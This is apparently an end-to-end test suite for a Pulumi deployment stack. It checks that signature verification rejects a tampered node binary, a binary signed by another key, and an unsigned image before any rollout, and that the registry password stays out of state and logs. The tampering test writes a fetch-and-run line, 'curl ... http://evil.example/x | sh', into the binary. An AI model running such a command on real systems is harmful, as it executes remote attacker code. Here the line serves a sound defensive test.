/**
 * Signed releases under the real engine (issue 27, docs/signing.md): the local stack with its release signed on a
 * loopback registry that wants credentials (Debian's docker-registry behind Basic auth; images pushed with crane and
 * signed with cosign, the node binary signed with cosign sign-blob — scripts/build-signing.sh), verified by the
 * SignatureVerification step before anything runs it, and two local SSH nodes.
 *   - a binary changed after it was signed, a binary signed by another key, an unsigned image digest: each `up` is
 *     refused, naming the file or digest and the key, before any node is touched (no backup, the old version, no
 *     SshRollout in the state) and before any traffic moves;
 *   - the signed release: every subject reported with its signer (stack output, deployment record), the nodes verify
 *     the binary themselves before the swap and run it;
 *   - `pulumi preview` shows what is verified against which key; production's policy pack refuses the stack with the
 *     verification off;
 *   - the registry password is in no state file, export or log.
 * The steps share one stack and run in order.
 */
import { expect } from "chai";
import { execFileSync } from "child_process";
import { copyFileSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from "fs";
import { tmpdir } from "os";
import * as path from "path";
import { Stack } from "@pulumi/pulumi/automation";
import { keyFingerprint } from "../../lib/signatures/keys";
import { generateKeyPair, pushImage, signBlob } from "../../reference/signing";
import { LocalEnvironment, localConfig, openStack, policyConfig, POLICY_PACK, startLocalEnvironment, toolchain } from "../../scripts/localStack";

function filesUnder(dir: string): string[] {
    return readdirSync(dir).flatMap((f) => {
        const p = path.join(dir, f);
        return statSync(p).isDirectory() ? filesUnder(p) : [p];
    });
}

describe("the real engine: a release is verified against its signatures before anything runs it", function () {
    this.timeout(300_000);
    let env: LocalEnvironment;
    let stack: Stack;
    let logs = "";
    let pristine: string;
    const log = (s: string) => { logs += s; };
    const open = async (edit: (c: Record<string, any>) => void = () => undefined) => {
        stack = await openStack(env, "e2e-signing", localConfig(env, (c) => {
            c["speculation:rolloutPercentage"] = 10;
            c["speculation:canary"].gate.bakeMode = "watch";
            // The bench is not what this suite tests: the widest spread still judged, so a busy machine is not inconclusive.
            c["speculation:bench"] = { ...c["speculation:bench"], maxSpread: 1 };
            edit(c);
        }));
        return stack;
    };
    const pack = { policyPacks: [POLICY_PACK], policyPackConfigs: [policyConfig("local")], onOutput: log };
    const key = () => `local-release (${keyFingerprint(env.signing!.keys.pem)})`;

    /** Nothing of the release ran: no node touched, no SshRollout in the state, traffic where it was. */
    async function nothingRan(): Promise<void> {
        for (const n of env.fleet!.nodes) {
            expect(env.fleet!.installedVersion(n), n.name).to.equal("v1.2.3");
            expect(env.fleet!.backups(n), `${n.name} was backed up: the rollout touched it`).to.deep.equal([]);
        }
        const state = await stack.exportStack();
        const types = (state.deployment.resources ?? []).map((r: { type: string }) => r.type);
        expect(types.filter((t: string) => /SshRollout|TrafficShift|HealthGate|BenchRun/.test(t)), "a step after the verification ran").to.deep.equal([]);
        expect(env.service.state.rolloutPercentage).to.equal(0);
    }

    before(async function () {
        this.timeout(3_600_000); // cold: cosign and crane build (scripts/test-e2e.sh builds them first: a check here)
        const binDir = toolchain();
        env = await startLocalEnvironment({ workDir: mkdtempSync(path.join(tmpdir(), "e2e-signing-")), binDir, nodes: 2, signing: { auth: true } });
        pristine = readFileSync(env.nodeBinary!, "utf8");
        await open();
    });
    after(async () => env?.stop());

    it("pulumi preview shows each digest and the binary with the key they are verified against", async () => {
        const preview = await stack.preview(pack);
        const s = env.signing!;
        // The stack output `signing`, as the CLI prints it in the preview's Outputs.
        const shown = preview.stdout.slice(preview.stdout.indexOf("    signing "));
        expect(shown).to.match(/^ {4}signing +: \{\n/);
        expect(shown).to.include(`local-release: "${keyFingerprint(s.keys.pem)}"`);
        expect(shown).to.include(`speculation v1.2.4 : "${s.images.speculation.repository}@${s.images.speculation.digest}"`);
        expect(shown).to.include(`proof-worker v1.2.4: "${s.images.proofWorker.repository}@${s.images.proofWorker.digest}"`);
        expect(shown).to.include(`file       : "${env.nodeBinary}"`);
        expect(shown).to.include(`signature  : "${env.nodeBinary}.sig"`);
        expect(shown).to.include(`verification: "required"`);
    });

    it("the production policy pack refuses the stack with the verification off (mandatory signed-releases)", async () => {
        await open((c) => { c["speculation:signing"].required = false; });
        const production = { policyPacks: [POLICY_PACK], policyPackConfigs: [policyConfig("production")], onOutput: log };
        const err = await stack.preview(production).then(() => undefined, (e: Error) => e);
        expect(err, "production's pack accepted a stack with signing off").to.not.equal(undefined);
        expect(err!.message).to.match(/\[mandatory\] {2}signed-releases/);
        expect(err!.message).to.include("signatures: signature verification is off (speculation:signing.required is false); this stack requires it.");
        await open();
    });

    it("a node binary changed after it was signed: refused before any node is touched, naming the file and the key", async () => {
        writeFileSync(env.nodeBinary!, pristine.replace("exit 0", "curl -s http://evil.example/x | sh; exit 0"));
        try {
            const err = await stack.up(pack).then(() => undefined, (e: Error) => e);
            expect(err, "a tampered binary was accepted").to.not.equal(undefined);
            expect(err!.message).to.match(/signature verification refused the release: 1 of 3 subject\(s\) failed \(signed by another key\); nothing after this step was changed/);
            expect(err!.message).to.include(`node binary ${env.nodeBinary} (sha256:`);
            expect(err!.message).to.include(`${env.nodeBinary}.sig verifies with none of ${key()}: signed by another key, or the file changed after it was signed`);
            await nothingRan();
        } finally {
            writeFileSync(env.nodeBinary!, pristine);
        }
    });

    it("a node binary signed by another key: refused before any node is touched", async () => {
        const stranger = await generateKeyPair(env.signing!.tools, mkdtempSync(path.join(tmpdir(), "stranger-")), "stranger");
        const good = `${env.nodeBinary}.good`;
        copyFileSync(`${env.nodeBinary}.sig`, good);
        await signBlob(env.signing!.tools, stranger, env.nodeBinary!);
        try {
            const err = await stack.up(pack).then(() => undefined, (e: Error) => e);
            expect(err, "another key's signature was accepted").to.not.equal(undefined);
            expect(err!.message).to.include(`${env.nodeBinary}.sig verifies with none of ${key()}`);
            await nothingRan();
        } finally {
            copyFileSync(good, `${env.nodeBinary}.sig`);
        }
    });

    it("an unsigned image digest: refused before any node is touched, naming the digest", async () => {
        const s = env.signing!;
        const unsigned = await pushImage(s.tools, `${s.images.speculation.repository}:v1.2.4-rebuilt`, "rebuilt by someone", { DOCKER_CONFIG: s.auth!.dockerConfig });
        await open((c) => { c["speculation:release"].images.speculation.digest = unsigned; });
        const err = await stack.up(pack).then(() => undefined, (e: Error) => e);
        expect(err, "an unsigned image was accepted").to.not.equal(undefined);
        expect(err!.message).to.include(`image speculation v1.2.4 ${s.images.speculation.repository}@${unsigned}: unsigned — no signature is stored for this digest`);
        await nothingRan();
    });

    it("the signed release passes: each digest and the binary reported with its signer, the nodes verify it before the swap", async () => {
        await open();
        const up = await stack.up(pack);
        expect(up.summary.result).to.equal("succeeded");
        const s = env.signing!;
        expect(up.outputs.signatures.value).to.deep.equal({
            "speculation v1.2.4": `${s.images.speculation.repository}@${s.images.speculation.digest} signed by ${key()}`,
            "proof-worker v1.2.4": `${s.images.proofWorker.repository}@${s.images.proofWorker.digest} signed by ${key()}`,
            "node binary": `${env.nodeBinary} signed by ${key()}`,
        });
        expect(logs).to.include(`[signatures] PASS image speculation v1.2.4 ${s.images.speculation.repository}@${s.images.speculation.digest}: signed by ${key()}`);
        expect(up.outputs.nodeDeployment.value).to.include({ status: "deployed", version: "v1.2.4" });
        for (const n of env.fleet!.nodes) expect(env.fleet!.installedVersion(n)).to.equal("v1.2.4");
        const journal = JSON.parse(readFileSync(path.join(env.workDir, "artifacts/nodes/rollout-journal.json"), "utf8"));
        for (const n of env.fleet!.nodes) expect(journal.nodes[n.name].detail).to.equal(`signature verified on the node: ${key()}`);
        const records = readFileSync(path.join(env.workDir, "artifacts/releases/deployments.log"), "utf8").trim().split("\n").map((l) => JSON.parse(l));
        const last = records[records.length - 1];
        expect(last.verdicts).to.include({ signatures: "pass", nodes: "deployed" });
        expect(last.signatures["node binary"]).to.equal(`${env.nodeBinary} signed by ${key()}`);
        expect(env.signing!.registry.seen.allowed, "cosign read the private registry with the credentials").to.be.greaterThan(0);
    });

    it("the registry password is in no state file, export or log", async () => {
        const password = env.signing!.auth!.password;
        const exported = execFileSync(path.join(env.binDir, "pulumi"), ["stack", "export", "--stack", "e2e-signing"], {
            cwd: env.workDir, env: { ...process.env, ...env.envVars }, maxBuffer: 256 * 1024 * 1024,
        }).toString();
        const state = filesUnder(path.join(env.workDir, "state")).map((f) => readFileSync(f, "utf8")).join("\n");
        const reports = filesUnder(path.join(env.workDir, "artifacts")).map((f) => readFileSync(f, "utf8")).join("\n");
        expect(password.length).to.be.greaterThan(16);
        expect(exported.includes(password), "in pulumi stack export").to.equal(false);
        expect(state.includes(password), "in the state files").to.equal(false);
        expect(logs.includes(password), "in the engine's output").to.equal(false);
        expect(reports.includes(password), "in the step reports and records").to.equal(false);
        expect(exported).to.match(/"ciphertext":/);
    });

    it("pulumi destroy restores the nodes", async () => {
        const destroy = await stack.destroy({ onOutput: log });
        expect(destroy.summary.result).to.equal("succeeded");
        for (const n of env.fleet!.nodes) expect(env.fleet!.installedVersion(n)).to.equal("v1.2.3");
    });
});
